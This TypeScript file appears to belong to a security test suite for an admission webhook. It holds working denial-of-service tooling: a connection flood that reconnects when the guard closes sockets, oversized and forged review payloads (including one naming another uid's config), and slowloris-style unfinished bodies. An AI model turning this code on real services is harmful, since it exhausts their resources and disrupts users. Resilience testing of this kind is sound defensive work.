import type { TLSSocket } from 'node:tls';

import type { Attacker } from './attacker.ts';

const MIB = 2 ** 20;
const PARALLEL_HANDSHAKES = 10;

/** Sends requests over many connections: over each one the next request when the last one was answered. */
export class Flood {
  answers = 0;
  readonly #attacker: Attacker;
  readonly #createRequest: () => Buffer;
  readonly #sockets = new Set<TLSSocket>();
  #isRunning = true;

  private constructor(attacker: Attacker, createRequest: () => Buffer) {
    this.#attacker = attacker;
    this.#createRequest = createRequest;
  }

  static async start(
    attacker: Attacker,
    connections: number,
    createRequest: () => Buffer,
  ): Promise<Flood> {
    const flood = new Flood(attacker, createRequest);
    const sockets: TLSSocket[] = [];
    for (let index = 0; index < connections; index += 1) sockets.push(await attacker.connect());
    for (const socket of sockets) flood.#send(socket);
    return flood;
  }

  stop(): void {
    this.#isRunning = false;
    for (const socket of this.#sockets) socket.destroy();
  }

  #send(socket: TLSSocket): void {
    // It may have connected after the end.
    if (!this.#isRunning) {
      socket.destroy();
      return;
    }
    this.#sockets.add(socket);
    socket.on('data', (chunk: Buffer) => {
      if (!chunk.includes('AdmissionReview')) return;
      this.answers += 1;
      socket.write(this.#createRequest());
    });
    socket.on('close', () => {
      this.#sockets.delete(socket);
      // The guard may close a connection. Then the attacker opens another one.
      if (this.#isRunning) void this.#attacker.connect().then(this.#send.bind(this), () => undefined);
    });
    socket.write(this.#createRequest());
  }
}

/** Reviews that cost much, and how many connections send them. */
export function createFloods(
  attacker: Attacker,
): readonly (readonly [title: string, connections: number, review: string])[] {
  const entries = Array.from({ length: 20_000 }, (_, index) => [`k${index}`, 'v'.repeat(9)]);
  const largeAnnotation = { a: `\u00e9${'x'.repeat(1_900_000)}` };
  const emptyArrays = Array.from({ length: 2_600_000 }, () => []);
  return [
    ['20,000 annotations', 512, attacker.forgedReview({ annotations: Object.fromEntries(entries) })],
    ['one large annotation', 150, attacker.forgedReview({ annotations: largeAnnotation })],
    ['8 MB of empty arrays', 16, attacker.review({ padding: emptyArrays })],
    ['a config of another uid', 64, attacker.forgedReview({ name: attacker.usedConfig })],
  ];
}

/** Opens connections that announce a body of 1 MiB and send a quarter of it. */
export async function sendUnfinishedBodies(attacker: Attacker, count: number) {
  const head = ['Content-Type: application/json', `Content-Length: ${MIB}`];
  const body = attacker.review({ padding: 'x'.repeat(MIB) }).slice(0, MIB / 4);
  const part = attacker.request(body, { head, target: '/validate?timeout=30s' });
  const sockets = await connectMany(attacker, count);
  for (const socket of sockets) socket.resume().write(part);
  return sockets;
}

/**
 * Opens connections, and sends a text over each.
 *
 * @param count a multiple of the parallel handshakes
 */
export async function connectMany(
  attacker: Attacker,
  count: number,
  sent = '',
): Promise<readonly TLSSocket[]> {
  const sockets: TLSSocket[] = [];
  while (sockets.length < count) {
    const batch = await Promise.all(Array.from({ length: PARALLEL_HANDSHAKES }, () => attacker.connect()));
    if (sent !== '') for (const socket of batch) socket.resume().write(sent);
    sockets.push(...batch);
  }
  return sockets;
}
